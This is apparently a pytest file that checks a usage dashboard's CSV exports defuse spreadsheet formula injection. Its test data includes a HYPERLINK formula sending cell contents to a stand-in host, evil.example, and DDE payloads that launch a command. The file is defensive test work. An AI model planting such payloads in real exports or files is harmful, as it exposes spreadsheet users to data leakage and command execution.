"""CSV exports of the dashboard are safe to open in a spreadsheet: names that look like formulas
(they come from whoever sends usage: ingest keys, proxy clients) are written as text, numbers
stay numbers.  Checked in Chromium on files downloaded from the page."""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest

from openusage.store import Store

from .conftest import start_server
from .test_dashboard import browser, open_tab, page, shot, sign_in  # noqa: F401 (fixtures)

pytestmark = pytest.mark.xdist_group("dashboard_csv")  # one module fixture, built once

# Each would run as a formula (or a command, through DDE) if a spreadsheet read it verbatim.
EVIL = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'plain, "quoted" name',
]
"""(A leading tab or carriage return is neutralised too, but no ingest key can send one: ingestion
refuses control characters.)"""
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FIELDS = ["num_model_requests", "input_tokens", "input_cached_tokens", "output_tokens", "cost"]


def evil_events(now: int) -> list[dict]:
    """Completions whose user, model, project and key are the strings above, rotated."""
    n = len(EVIL)
    events = []
    for i in range(n):
        events.append({
            "id": f"evil-{i}", "type": "completions", "timestamp": now - 3600 * (i + 2),
            "user_id": EVIL[i], "model": EVIL[(i + 1) % n], "project_id": EVIL[(i + 2) % n],
            "api_key_id": EVIL[(i + 3) % n], "input_tokens": 1000 * (i + 1), "input_cached_tokens": 100 * i,
            "output_tokens": 10 * (i + 1), "num_model_requests": i + 1,
        })
    # A priced model, so the cost column holds real amounts too.
    events.append({"id": "priced", "type": "completions", "timestamp": now - 7200, "user_id": EVIL[0],
                   "model": "gpt-4o-2024-08-06", "project_id": EVIL[1], "api_key_id": EVIL[2],
                   "input_tokens": 2_000_000, "output_tokens": 500_000, "num_model_requests": 3})
    return events


def expected(events: list[dict], field: str) -> dict[str, dict[str, float]]:
    out: dict[str, dict[str, float]] = {}
    for e in events:
        row = out.setdefault(e[field], dict.fromkeys(FIELDS[:-1], 0))
        for f in FIELDS[:-1]:
            row[f] += e.get(f, 0)
    return out


@pytest.mark.parametrize("field", ["user_id", "model", "project_id", "api_key_id"])
def test_breakdown_csv_neutralises_formulas_and_keeps_numbers(store: Store, page, field: str) -> None:  # noqa: F811
    srv = start_server(store)
    try:
        events = evil_events(int(time.time()))
        with srv.client() as c:
            assert c.post("/v1/usage/events", json={"events": events}).json()["accepted"] == len(events)
        sign_in(page, srv.url, hash_=f"#tab=breakdown&range=7d&breakdownBy={field}")
        page.wait_for_selector(f'table[data-table="breakdown-{field}"]')
        with page.expect_download() as dl:
            page.click(f'[data-export="breakdown-{field}"]')
        raw = Path(dl.value.path()).read_bytes().decode()  # keep \r as written
        shot(page, f"breakdown-csv-{field}")
    finally:
        srv.stop()

    # QUOTE_NONNUMERIC: a bare cell must be a number (else ValueError), a quoted one is text.
    rows = list(csv.reader(io.StringIO(raw, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    assert rows[0] == [field, *FIELDS]
    want = expected(events, field)
    got: dict[str, list[object]] = {}
    for row in rows[1:]:
        name, *values = row
        assert isinstance(name, str)
        assert not name.startswith(FORMULA_START), repr(name)
        for v in values:  # every other cell: a real number, or an empty text cell (no cost)
            assert isinstance(v, float) or v == "", (name, v)
        # The neutralised name is the original behind one single quote.
        original = name[1:] if name.startswith("'") and name[1:].startswith(FORMULA_START) else name
        got[original] = values
    assert set(got) == set(want)
    for name, values in got.items():
        assert values[:4] == [float(want[name][f]) for f in FIELDS[:-1]], name
    costs = [v[4] for v in got.values() if v[4] != ""]
    assert any(c > 0 for c in costs)  # gpt-4o is priced: its rows carry amounts


def test_tokens_csv_neutralises_model_names(store: Store, page) -> None:  # noqa: F811
    srv = start_server(store)
    try:
        events = evil_events(int(time.time()))
        with srv.client() as c:
            assert c.post("/v1/usage/events", json={"events": events}).status_code == 200
        sign_in(page, srv.url, hash_="#tab=tokens&range=7d")
        open_tab(page, "requests")
        with page.expect_download() as dl:
            page.click('[data-export="requests-by-model"]')
        raw = Path(dl.value.path()).read_bytes().decode()  # keep \r as written
    finally:
        srv.stop()
    rows = list(csv.reader(io.StringIO(raw, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    assert rows[0] == ["model", "num_model_requests", "tokens_per_request"]
    names = {r[0] for r in rows[1:]}
    assert names == {("'" + m if m.startswith(FORMULA_START) else m) for m in {e["model"] for e in events}}
    assert all(isinstance(v, float) for r in rows[1:] for v in r[1:])
